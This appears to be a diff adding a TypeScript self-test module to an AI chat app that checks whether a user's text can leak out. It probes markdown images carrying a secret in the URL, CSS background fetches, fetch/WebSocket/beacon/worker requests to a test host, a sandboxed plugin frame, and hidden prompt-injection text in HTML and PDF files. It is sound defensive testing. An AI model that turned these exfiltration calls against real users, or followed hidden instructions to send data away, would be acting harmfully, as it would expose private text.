@@ -1,0 +1,186 @@
+import { render } from "solid-js/web";
+import type { Api } from "../../app/api.ts";
+import { AnswerText } from "../chat/answer-text.tsx";
+import { hiddenTextHtml, hiddenTextPdf, INJECTION, SEEN } from "./hidden-text-files.ts";
+import { byPolicy, withElement, type Outcome, type Target } from "./leaks.ts";
+import { readAndForget } from "./read-and-forget.ts";
+
+export interface Attempt {
+  readonly id: string;
+  readonly title: string;
+  /** What a leak this way would look like. */
+  readonly what: string;
+  run(target: Target, api: Api): Promise<Outcome>;
+}
+
+export const ATTEMPTS: readonly Attempt[] = [
+  {
+    id: "answer-image",
+    title: "An image in an answer",
+    what: "A document makes the answer hold an image whose address carries your text.",
+    run: imageInAnswer,
+  },
+  {
+    id: "image",
+    title: "An image from elsewhere",
+    what: "A script puts such an image into the page itself.",
+    run: (target) => byPolicy(target, () => (new Image().src = `https://${target.host}/pixel.png?your-text`)),
+  },
+  {
+    id: "preview",
+    title: "A preview of a link",
+    what: "A link is opened in a small frame before anybody clicked it.",
+    run: (target) =>
+      withElement(frame({ src: `https://${target.host}/preview` }), () => byPolicy(target, () => undefined)),
+  },
+  {
+    id: "css",
+    title: "A picture named by a style",
+    what: "A style sheet asks for a background picture.",
+    run: cssUrl,
+  },
+  {
+    id: "html",
+    title: "Hidden words in an HTML file",
+    what: "Invisible text tells the language model to send things away.",
+    run: (_, api) => hiddenWords(api, hiddenTextHtml()),
+  },
+  {
+    id: "pdf",
+    title: "Hidden words in a PDF",
+    what: "The same in white letters on a white page.",
+    run: (_, api) => hiddenWords(api, hiddenTextPdf()),
+  },
+  {
+    id: "plugin",
+    title: "A plugin that asks for an address",
+    what: "Foreign code in a sandboxed frame of this page tries to send something.",
+    run: codeInFrame,
+  },
+  {
+    id: "fetch",
+    title: "A request by the page",
+    what: "Code of this page sends your text to an address.",
+    run: (target) =>
+      byPolicy(target, () => fetch(`https://${target.host}/`, { method: "POST", body: "your text" }).catch(() => null)),
+  },
+  {
+    id: "worker",
+    title: "A request by a worker",
+    what: "The same from a worker that the page started.",
+    run: requestByWorker,
+  },
+  {
+    id: "socket",
+    title: "A WebSocket",
+    what: "A line that stays open, to anywhere.",
+    run: (target) => byPolicy(target, () => new WebSocket(`wss://${target.host}/`)),
+  },
+  {
+    id: "events",
+    title: "A stream of events",
+    what: "Listening to a foreign server.",
+    run: async (target) => {
+      let source: EventSource | undefined;
+      const outcome = await byPolicy(target, () => (source = new EventSource(`https://${target.host}/`)));
+      source?.close();
+      return outcome;
+    },
+  },
+  {
+    id: "beacon",
+    title: "A beacon",
+    what: "A last message that browsers send while a page closes.",
+    run: (target) => byPolicy(target, () => navigator.sendBeacon(`https://${target.host}/`, "your text")),
+  },
+];
+
+async function imageInAnswer({ host }: Target): Promise<Outcome> {
+  const source = `Look ![here](https://${host}/a.png?q=secret) and <img src="https://${host}/b.png"> and [x]: https://${host}`;
+  const place = document.createElement("div");
+  return withElement(place, async () => {
+    const dispose = render(() => <AnswerText source={source} receipts={[]} citation={() => null} />, place);
+    const loads = place.querySelectorAll(
+      "img, picture, video, audio, iframe, object, embed, link, script, [style]",
+    ).length;
+    const shown = (place.textContent ?? "").trim() !== "";
+    dispose();
+    if (!shown) return { stopped: false, how: "The answer was not shown at all, so nothing can be said." };
+    return loads === 0
+      ? { stopped: true, how: "Answers are shown as text: the image became words, and nothing was asked for." }
+      : { stopped: false, how: "The answer holds something that the browser would load." };
+  });
+}
+
+async function cssUrl(target: Target): Promise<Outcome> {
+  const box = document.createElement("div");
+  const sheet = document.createElement("style");
+  const name = `leak-${target.host.slice(5, 13)}`;
+  sheet.textContent = `.${name} { position: fixed; width: 1px; height: 1px; background: url("https://${target.host}/style.png"); }`;
+  box.className = name;
+  box.setAttribute("aria-hidden", "true");
+  document.head.append(sheet);
+  try {
+    return await byPolicy(target, () => document.body.append(box));
+  } finally {
+    box.remove();
+    sheet.remove();
+  }
+}
+
+async function hiddenWords(api: Api, file: File): Promise<Outcome> {
+  const text = await readAndForget(api, file);
+  if (!text.includes(SEEN)) return { stopped: false, how: "The file was not read whole, so nothing can be said." };
+  return text.includes(INJECTION)
+    ? { stopped: false, how: "The hidden words were read like the others: a language model would see them." }
+    : { stopped: true, how: "What nobody sees was left out when the file was read. No language model is given it." };
+}
+
+function frame(attributes: Readonly<Record<string, string>>): HTMLIFrameElement {
+  const made = document.createElement("iframe");
+  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
+  return made;
+}
+
+/** Milliseconds that code in a frame has to show that it runs. */
+const FRAME_PATIENCE = 1_500;
+
+async function codeInFrame({ host }: Target): Promise<Outcome> {
+  const code = `fetch("https://${host}/plugin", { method: "POST", body: "your text" }).finally(() => parent.postMessage("${host}", "*"))`;
+  const made = frame({ sandbox: "allow-scripts", srcdoc: `<p>A plugin</p><script>${code}</script>` });
+  let ran = false;
+  const hear = ({ data }: MessageEvent<unknown>) => (ran ||= data === host);
+  addEventListener("message", hear);
+  try {
+    const loaded = new Promise((resolve) => made.addEventListener("load", resolve, { once: true }));
+    await withElement(made, async () => {
+      await loaded;
+      await new Promise((resolve) => setTimeout(resolve, FRAME_PATIENCE));
+    });
+  } finally {
+    removeEventListener("message", hear);
+  }
+  return ran
+    ? { stopped: false, how: "The foreign code ran and could try to send." }
+    : { stopped: true, how: "The code did not even run: only this program's own scripts may." };
+}
+
+async function requestByWorker(target: Target): Promise<Outcome> {
+  const code = `
+    addEventListener("securitypolicyviolation", (event) => postMessage(event.effectiveDirective));
+    fetch("https://${target.host}/worker", { method: "POST", body: "your text" }).catch(() => setTimeout(() => postMessage(null), 1000));`;
+  const url = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
+  const worker = new Worker(url);
+  try {
+    const directive = await new Promise<string | null>((resolve) => {
+      worker.onmessage = ({ data }: MessageEvent<string | null>) => resolve(data);
+      worker.onerror = () => resolve("worker-src");
+    });
+    return directive
+      ? { stopped: true, how: `The browser stopped it: the worker is under the same policy (${directive}).` }
+      : { stopped: false, how: "No policy stopped it. Whoever serves this page sends none with it." };
+  } finally {
+    worker.terminate();
+    URL.revokeObjectURL(url);
+  }
+}
